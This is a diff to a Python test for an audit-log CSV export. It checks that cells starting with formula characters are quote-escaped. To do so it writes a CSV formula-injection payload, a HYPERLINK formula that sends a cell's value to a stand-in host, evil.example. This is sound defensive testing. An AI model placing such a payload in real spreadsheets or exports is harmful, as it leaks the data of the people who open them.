@@ -370,10 +370,13 @@ FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "\0", ";", "\uff1d", "\u
 def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_start_with_a_quote(app, client, start):
     """Issue 11: on main a cell starting with ";" or a line feed (among others) went out unescaped."""
     payload = f'{start}HYPERLINK("https://evil.example/?x="&A1)'
-    append(action="test_formula", object_id=payload[:128])
-    rows = csv_rows(client, action="test_formula")
-    assert rows[1][8] == "'" + payload[:128]
+    assert next(csv.reader(io.StringIO(audit_log.csv_rows([[payload]]))))[0] == "'" + payload
     assert audit_log.csv_rows([["CR-2026-00001", None]]) == '"CR-2026-00001",""\r\n'
+    if start == "\0":
+        return  # PostgreSQL cannot store a NUL in text, so none can reach the export from the audit trail
+    append(action="test_formula", object_id=payload)
+    rows = csv_rows(client, action="test_formula")
+    assert rows[1][8] == "'" + payload
 
 
 def test_every_csv_cell_is_quoted_so_a_separator_inside_a_value_cannot_start_a_new_cell(app, client):
